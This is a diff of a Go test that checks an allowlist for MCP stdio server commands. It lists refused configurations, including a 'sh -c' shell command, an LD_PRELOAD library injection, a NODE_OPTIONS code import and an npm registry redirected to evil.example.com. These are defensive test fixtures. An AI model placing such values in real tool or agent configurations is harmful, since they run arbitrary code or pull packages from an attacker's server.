@@ -209,13 +209,13 @@ func mustJSON(v any) string {
 func TestStdioCommandAllowlist(t *testing.T) {
 	h := newHarness(t, []string{"npx", "-y", "@modelcontextprotocol/server-everything", "env=TOKEN"})
 	refused := map[string]string{
-		"the issue's command": `{"name":"x","kind":"mcp_stdio","command":"sh","args":["-c","id > /tmp/marker"]}`,
-		"more arguments":      `{"name":"x","kind":"mcp_stdio","command":"npx","args":["-y","@modelcontextprotocol/server-everything","x"]}`,
-		"other arguments":     `{"name":"x","kind":"mcp_stdio","command":"npx","args":["-c","sh"]}`,
-		"another path":        `{"name":"x","kind":"mcp_stdio","command":"/usr/bin/node"}`,
-		"a preload":           `{"name":"x","kind":"mcp_stdio","command":"node","env":{"LD_PRELOAD":"/tmp/x.so"}}`,
-		"node options":        `{"name":"x","kind":"mcp_stdio","command":"node","env":{"NODE_OPTIONS":"--import=data:text/javascript,0"}}`,
-		"a registry":          `{"name":"x","kind":"mcp_stdio","command":"npx","args":["-y","@modelcontextprotocol/server-everything"],"env":{"npm_config_registry":"http://evil.example.com"}}`,
+		"a shell command": `{"name":"x","kind":"mcp_stdio","command":"sh","args":["-c","id > /tmp/marker"]}`,
+		"more arguments":  `{"name":"x","kind":"mcp_stdio","command":"npx","args":["-y","@modelcontextprotocol/server-everything","x"]}`,
+		"other arguments": `{"name":"x","kind":"mcp_stdio","command":"npx","args":["-c","sh"]}`,
+		"another path":    `{"name":"x","kind":"mcp_stdio","command":"/usr/bin/node"}`,
+		"a preload":       `{"name":"x","kind":"mcp_stdio","command":"node","env":{"LD_PRELOAD":"/tmp/x.so"}}`,
+		"node options":    `{"name":"x","kind":"mcp_stdio","command":"node","env":{"NODE_OPTIONS":"--import=data:text/javascript,0"}}`,
+		"a registry":      `{"name":"x","kind":"mcp_stdio","command":"npx","args":["-y","@modelcontextprotocol/server-everything"],"env":{"npm_config_registry":"http://evil.example.com"}}`,
 	}
 	// Variables no entry lists, each of which changes where an allowed npx fetches its
 	// package from, whom it trusts or what it loads.
